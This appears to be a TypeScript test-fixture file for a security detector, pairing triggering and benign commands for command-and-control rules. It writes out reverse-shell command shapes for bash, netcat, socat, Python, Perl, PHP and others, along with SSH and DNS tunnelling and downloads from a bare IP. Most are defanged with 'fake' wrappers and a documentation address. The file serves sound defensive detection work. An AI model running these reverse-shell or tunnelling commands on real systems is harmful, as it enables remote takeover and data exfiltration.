import type { Deed } from './deed.ts';

const H = '192.0.2.1';
/** A question to a name server of a network namespace of its own. */
const ask = (name: string, type = 1, count = ''): string =>
  `as resolver $S/deeds; unshare --net /opt/resolver dns ${name} ${type} ${count}`;
const LONG = `${'a'.repeat(60)}.${'b'.repeat(30)}.example`;

export const COMMAND_AND_CONTROL: readonly Deed[] = [
  {
    rule: 'reverse_shell_by_shell',
    script: `bash -c ': /dev/tcp/${H}/4444'`,
    shows: H,
    near: "bash -c ': /dev/tcp'; fake program /dev/tcp/",
  },
  {
    rule: 'reverse_shell_by_netcat',
    script: `fake nc -e /bin/sh ${H} 4444`,
    near: `fake nc -zv ${H} 4444`,
  },
  {
    rule: 'reverse_shell_by_socat',
    script: `fake socat TCP:${H}:4444 EXEC:/bin/sh`,
    near: `fake socat - TCP:${H}:4444`,
  },
  {
    rule: 'reverse_shell_by_named_pipe',
    script: `sh -c ': mkfifo /opt/f; : cat /opt/f | : sh -i "| nc ${H} 4444 >" '`,
    near: "sh -c ': mkfifo /opt/f'",
  },
  {
    rule: 'reverse_shell_by_python',
    script: 'fake python3 -c "import socket,os; s=socket.socket(); os.dup2(s.fileno(), 0)"',
    near: 'fake python3 -c "import socket; print(socket.gethostname())"',
  },
  {
    rule: 'reverse_shell_by_perl',
    script: 'fake perl -e \'use Socket; open(STDIN,">&S"); exec("/bin/sh -i");\'',
    near: "fake perl -e 'use Socket; print 1'",
  },
  {
    rule: 'reverse_shell_by_ruby',
    script: `fake ruby -rsocket -e 'exec sprintf("/bin/sh <&%d", TCPSocket.new("${H}", 1))'`,
    near: "fake ruby -e 'puts 1'",
  },
  {
    rule: 'reverse_shell_by_php',
    script: `fake php -r '$s=fsockopen("${H}",1); exec("/bin/sh <&3");'`,
    near: `fake php -r '$s=fsockopen("${H}",1);'`,
  },
  {
    rule: 'reverse_shell_by_node',
    script: `fake node -e 'require("child_process"); require("net").connect(1, "${H}")'`,
    near: `fake node -e 'require("net").connect(1, "${H}")'`,
  },
  {
    rule: 'reverse_shell_by_lua',
    script: 'fake lua -e \'require("socket"); os.execute("sh")\'',
    near: 'fake lua -e \'require("socket")\'',
  },
  {
    rule: 'reverse_shell_by_awk',
    script: `fake gawk 'BEGIN {s = "/inet/tcp/0/${H}/1"}'`,
    near: "fake gawk '{print $1}'",
  },
  {
    rule: 'reverse_shell_by_openssl',
    script: `sh -c ': sh -i "|" openssl s_client -connect ${H}:1'`,
    near: `sh -c ': openssl s_client -connect ${H}:1'`,
  },
  {
    rule: 'reverse_shell_by_telnet',
    script: `sh -c ': telnet ${H} 1 "| /bin/sh | telnet" ${H} 2'`,
    near: `sh -c ': telnet ${H} 1'`,
  },
  {
    rule: 'shell_connects',
    script: '(: < /dev/tcp/127.0.0.1/1) 2> /dev/null || true',
    shows: '"remote_port":"1"',
    shell: '/bin/bash',
    near: 'as client $S/deeds; /opt/client connect 127.0.0.1 1',
  },
  {
    rule: 'connected_process_becomes_shell',
    script: 'as x $S/deeds; unshare --net /opt/x shell sh < /dev/null',
    near: 'as x $S/deeds; unshare --net /opt/x shell sh -c true; sh < /dev/null',
  },
  {
    rule: 'bare_shell_after_connection',
    script: 'as x $S/deeds; unshare --net /opt/x shell-child sh < /dev/null',
    near: 'as x $S/deeds; unshare --net /opt/x shell-child sh -c true',
  },
  {
    rule: 'ssh_reverse_tunnel',
    script: 'fake ssh -fNR 2222:localhost:22 host',
    near: 'fake ssh -L 8080:localhost:80 host',
  },
  { rule: 'ssh_proxy_tunnel', script: 'fake ssh -D 1080 host', near: 'fake ssh -v host' },
  {
    rule: 'traffic_relayed',
    script: `fake socat TCP-LISTEN:8080,fork TCP:${H}:80`,
    near: 'fake socat TCP-LISTEN:8080 STDOUT',
  },
  { rule: 'tunnel_tool_run', script: `fake chisel client ${H} 8080`, near: 'fake carver client' },
  { rule: 'dns_tunnel_tool_run', script: 'fake iodine tunnel.example', near: 'fake dig example' },
  {
    rule: 'traffic_forced_through_proxy',
    script: 'fake proxychains4 id',
    near: 'fake chains id',
  },
  {
    rule: 'tor_used',
    script: 'as x $S/deeds; unshare --net /opt/x connect 127.0.0.1 9050',
    near: 'as x $S/deeds; unshare --net /opt/x connect 127.0.0.1 9049',
  },
  {
    rule: 'netcat_listens',
    script: 'as ncat $S/deeds; unshare --net /opt/ncat listen 127.0.0.1 4444',
    near: 'as server $S/deeds; unshare --net /opt/server listen 127.0.0.1 4444',
  },
  {
    rule: 'temporary_program_listens',
    script: 'hide /var/tmp; cp $S/deeds /var/tmp/x; unshare --net /var/tmp/x listen 127.0.0.1 4444',
    near: 'as x $S/deeds; unshare --net /opt/x listen 127.0.0.1 4444',
  },
  {
    rule: 'temporary_program_connects',
    script: `hide /var/tmp; cp $S/deeds /var/tmp/x; unshare --net /var/tmp/x connect ${H} 443`,
    near: `hide /var/tmp; cp $S/deeds /var/tmp/x; unshare --net /var/tmp/x connect 127.0.0.1 443
      as x $S/deeds; unshare --net /opt/x connect ${H} 443`,
  },
  {
    rule: 'download_into_hidden_place',
    script: "hide /dev/shm; as wget /bin/dash; /opt/wget -c ': > /dev/shm/fetched'",
    near: "as wget /bin/dash; /opt/wget -c ': > /opt/fetched'",
  },
  {
    rule: 'download_from_bare_address',
    script: `fake curl -O http://${H}/x.sh`,
    near: 'fake curl -O http://host.example/x.sh; fake curl -O http://127.0.0.1/x.sh',
  },
  { rule: 'dns_long_names', script: ask(LONG, 1, '25'), near: ask(LONG, 1, '15') },
  {
    rule: 'dns_question_for_raw_data',
    script: ask('x.example', 10),
    shows: '"query_type":"NULL"',
    near: ask('x.example', 16),
  },
  { rule: 'dns_names_guessed', script: ask('x.example', 1, '45'), near: ask('x.example', 1, '35') },
  { rule: 'dns_onion_name', script: ask('abc.onion'), near: ask('onion.example') },
  { rule: 'dns_tunnel_service', script: ask('x.ngrok.io'), near: ask('ngrok.example') },
  { rule: 'dns_callback_service', script: ask('x.oast.fun'), near: ask('oast.example') },
  {
    rule: 'dns_message_service_by_script',
    script: 'as curl $S/deeds; unshare --net /opt/curl dns api.telegram.org 1',
    near: ask('api.telegram.org'),
  },
];
